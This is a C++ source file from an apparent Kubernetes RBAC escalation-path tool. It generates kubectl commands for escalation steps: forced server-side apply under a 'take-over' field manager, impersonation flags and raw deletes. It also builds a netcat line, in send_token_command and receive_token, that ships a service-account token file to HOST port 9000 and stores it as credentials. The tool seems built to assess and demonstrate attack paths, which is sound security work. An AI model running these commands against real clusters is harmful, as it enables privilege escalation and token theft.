#include "graph/escalation/requests/text.h"

#include "graph/base/shell_quote.h"
#include "graph/model/subject.h"

#include <fmt/format.h>
#include <fmt/ranges.h>

#include <algorithm>

namespace nsposture::escalation::requests {

namespace {

constexpr std::string_view kFreshName = "take-over";

bool is_control(char c) {
  return static_cast<unsigned char>(c) < 0x20 || c == 0x7F;
}

std::string url_text(std::string_view text) {
  constexpr std::string_view kPlain = "-_.~:";
  std::string quoted;
  for (const char c : text) {
    const bool plain = (c >= '0' && c <= '9') || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
                       kPlain.find(c) != std::string_view::npos;
    quoted += plain ? std::string(1, c) : fmt::format("%{:02X}", static_cast<unsigned char>(c));
  }
  return quoted;
}

}  // namespace

std::string json_text(std::string_view text) {
  std::string quoted = "\"";
  for (const char c : text) {
    if (is_control(c)) {
      quoted += fmt::format("\\u{:04x}", static_cast<unsigned char>(c));
    } else {
      if (c == '"' || c == '\\') quoted += '\\';
      quoted += c;
    }
  }
  return quoted + '"';
}

std::string send_object(const StepView& view, PermissionId create, const std::string& json) {
  // A POST names nothing; with a rule limited to names, only the other methods work.
  if (name_used(view.edge, create).empty()) {
    return fmt::format("{} create --validate=false -f - <<< {}", view.kubectl, shell_quote(json));
  }
  return overwrite_object(view, static_cast<PermissionId>(create + 2), json);
}

// Uses its own field manager: what the usual one applied before, and this does not name, stays.
std::string overwrite_object(const StepView& view, PermissionId patch, const std::string& json,
                             std::string_view options) {
  const auto* way = uses(view.edge, patch)
                        ? "apply --server-side --force-conflicts --field-manager=take-over"
                        : "replace";
  return fmt::format("{} {} {}--validate=false -f - <<< {}", view.kubectl, way, options,
                     shell_quote(json));
}

// Uses a field manager that applied nothing: what the usual one, or an earlier step, applied stays
// in the response.
std::string dry_run_apply(const StepView& view) {
  return fmt::format(
      "{} apply --server-side --force-conflicts --dry-run=server "
      "--field-manager=take-over-read --validate=false",
      view.kubectl);
}

std::string collection_path(std::string_view version, std::string_view ns,
                            std::string_view resource, std::string_view name) {
  const auto in = ns.empty() ? std::string() : fmt::format("namespaces/{}/", url_text(ns));
  return fmt::format("{}/{}{}?fieldSelector=metadata.name%3D{}", version, in, resource,
                     url_text(name));
}

std::string delete_object(const StepView& view, DeletePermissions removing,
                          std::string_view resource, std::string_view ns, std::string_view name) {
  if (uses(view.edge, removing.one)) {
    const auto kind = resource.substr(0, resource.size() - 1);
    return fmt::format("{} delete {}{}", view.kubectl, in_namespace(ns),
                       shell_quote(fmt::format("{}/{}", kind, name)));
  }
  const auto path = collection_path("/apis/rbac.authorization.k8s.io/v1", ns, resource, name);
  return fmt::format("{} delete --raw {}", view.kubectl, shell_quote(path));
}

std::string keep_token(const StepView& view, const std::string& command) {
  // The secret of a bootstrap token holds the part of it that its name does not show.
  const auto& user = view.becomes.username;
  const auto id =
      user.starts_with(kBootstrapUser) ? user.substr(kBootstrapUser.size()) + '.' : std::string();
  return fmt::format("kubectl config set-credentials {} --token=\"{}$({})\"",
                     shell_quote(credential_name(view.becomes)), id, command);
}

std::string send_token_command(std::string_view root, std::string_view file) {
  return fmt::format(R"(["sh","-c","until nc HOST 9000 < {}{}; do sleep 1; done"])", root, file);
}

std::string receive_token(const StepView& view) {
  return keep_token(view, "nc -l -p 9000");
}

std::string credential_name(const Person& person) {
  const auto subject = subject_from_username(person.username);
  if (subject.kind == SubjectKind::ServiceAccount) return subject.name + '.' + subject.namespace_;
  return person.username;
}

std::string fresh_name(const StepView& view, std::string_view given) {
  if (!given.empty() && given != kFreshName) return std::string(given);
  return std::string(kFreshName) + view.suffix;
}

std::string in_namespace(std::string_view ns) {
  return ns.empty() ? std::string() : fmt::format("-n {} ", shell_quote(ns));
}

const std::string& object_name(const Edge& edge) {
  static const std::string kNoName;
  const auto* object = std::get_if<NamedObject>(&edge.detail);
  return object != nullptr ? object->name : kNoName;
}

bool uses(const Edge& edge, PermissionId right) {
  return std::any_of(edge.proof.begin(), edge.proof.end(),
                     [right](const PassedCheck& use) { return use.right == right; });
}

std::string name_used(const Edge& edge, PermissionId right) {
  for (const auto& use : edge.proof) {
    if (use.right == right && use.mode.empty() && use.name != "*") return use.name;
  }
  return {};
}

std::string object_json(std::string_view version, std::string_view kind, std::string_view ns,
                        std::string_view name, std::string_view rest) {
  const auto in = ns.empty() ? std::string() : fmt::format(R"(,"namespace":{})", json_text(ns));
  return fmt::format(R"({{"apiVersion":{},"kind":{},"metadata":{{"name":{}{}}}{}}})",
                     json_text(version), json_text(kind), json_text(name), in, rest);
}

std::string subject_json(const Subject& subject, const std::string& ns) {
  if (subject.kind == SubjectKind::ServiceAccount) {
    return fmt::format(R"({{"kind":"ServiceAccount","namespace":{},"name":{}}})",
                       json_text(subject.namespace_.empty() ? ns : subject.namespace_),
                       json_text(subject.name));
  }
  return fmt::format(R"({{"kind":"{}","apiGroup":"rbac.authorization.k8s.io","name":{}}})",
                     to_string(subject.kind), json_text(subject.name));
}

std::string describe_person(const Person& person) {
  if (!person.username.empty()) return describe(subject_from_username(person.username));
  if (person.groups.empty()) return "somebody";
  const auto rank = [](const std::string& group) {
    if (group == kGroupAuthenticated) return 0;
    return group == kGroupServiceAccounts ? 1 : 2;
  };
  const auto& group =
      *std::max_element(person.groups.begin(), person.groups.end(),
                        [&](const auto& a, const auto& b) { return rank(a) < rank(b); });
  return describe(Subject{SubjectKind::Group, {}, group});
}

std::string name_flag(const Person& person) {
  return "--as=" + shell_quote(person.username);
}

std::string impersonation_flags(const Person& person) {
  std::string flags = name_flag(person);
  auto implicit = implicit_groups(subject_from_username(person.username));
  std::sort(implicit.begin(), implicit.end());
  if (person.groups == implicit) return flags;
  // The API server adds this one itself, and requires permission for each group that is sent.
  for (const auto& group : person.groups) {
    if (group != kGroupAuthenticated) flags += " --as-group=" + shell_quote(group);
  }
  return flags;
}

std::string describe_role(const AccessModel& world, std::uint32_t role) {
  if (role == world.everything_role()) return "every right";
  const auto& object = world.role_object(role);
  const auto prefix = object.kind == RoleKind::Role ? object.meta.namespace_ + '/' : std::string();
  return fmt::format("{} \"{}{}\"", to_string(object.kind), prefix, object.meta.name);
}

}  // namespace nsposture::escalation::requests
